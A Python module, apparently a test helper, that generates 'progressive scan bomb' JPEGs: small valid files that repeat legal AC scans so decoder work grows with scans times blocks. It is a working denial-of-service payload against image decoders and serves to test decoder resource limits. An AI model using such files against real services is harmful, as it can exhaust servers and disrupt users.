"""Progressive JPEGs that repeat legal scans: decode work grows with scans x
blocks while the file stays small.

The image is a flat grey, one component: a DC scan of one bit per block,
then ``scans`` spectral scans of the AC band 1..63 with successive
approximation off (Ah = Al = 0).  Each such scan is legal after the one
before it (ITU T.81 G.1.1.1.1 allows re-sending a band that has no bits left
to refine, and libjpeg accepts it without a warning), and codes every block
as part of an end-of-band run, so that a scan of a whole image takes a few
bytes while the decoder still visits each block of it.
"""

from __future__ import annotations

import struct


class _Bits:
    """MSB-first bit writer with JPEG byte stuffing (0xFF is followed by 0x00)."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.value = 0
        self.count = 0

    def put(self, value: int, length: int) -> None:
        for shift in range(length - 1, -1, -1):
            self.value = self.value << 1 | (value >> shift) & 1
            self.count += 1
            if self.count == 8:
                self._byte()

    def _byte(self) -> None:
        self.out.append(self.value)
        if self.value == 0xFF:
            self.out.append(0x00)
        self.value = self.count = 0

    def flush(self) -> bytes:
        if self.count:
            self.put((1 << (8 - self.count)) - 1, 8 - self.count)  # pad with 1-bits
        data, self.out = bytes(self.out), bytearray()
        return data


def _segment(marker: int, payload: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _sos(ss: int, se: int) -> bytes:
    return _segment(0xDA, bytes([1, 1, 0x00, ss, se, 0x00]))


def progressive_scan_bomb(height: int, width: int, scans: int) -> bytes:
    """A valid progressive grayscale JPEG of ``height`` x ``width`` flat grey
    pixels whose AC band is sent ``scans`` times (``scans + 1`` scans in all)."""
    blocks = -(-height // 8) * -(-width // 8)
    head = b"\xff\xd8"
    head += _segment(0xDB, bytes([0x00]) + bytes([1] * 64))  # quantization table 0
    head += _segment(0xC2, struct.pack(">BHHB", 8, height, width, 1) + bytes([1, 0x11, 0]))  # SOF2
    # DC table 0: one code "0" for difference category 0.
    head += _segment(0xC4, bytes([0x00]) + bytes([1] + [0] * 15) + bytes([0x00]))
    # AC table 0: EOB0 .. EOB14, 4-bit codes.
    head += _segment(0xC4, bytes([0x10]) + bytes([0, 0, 0, 15] + [0] * 12) + bytes(r << 4 for r in range(15)))
    bits = _Bits()
    for _ in range(blocks):
        bits.put(0, 1)  # DC difference 0: the level-shifted flat grey
    dc = _sos(0, 0) + bits.flush()
    left = blocks
    while left:  # end-of-band runs: symbol EOBr covers 2**r + (r extra bits) blocks, at most 32767
        run = min(left, 32767)
        r = run.bit_length() - 1
        bits.put(r, 4)
        bits.put(run - (1 << r), r)
        left -= run
    ac = _sos(1, 63) + bits.flush()
    return head + dc + ac * scans + b"\xff\xd9"
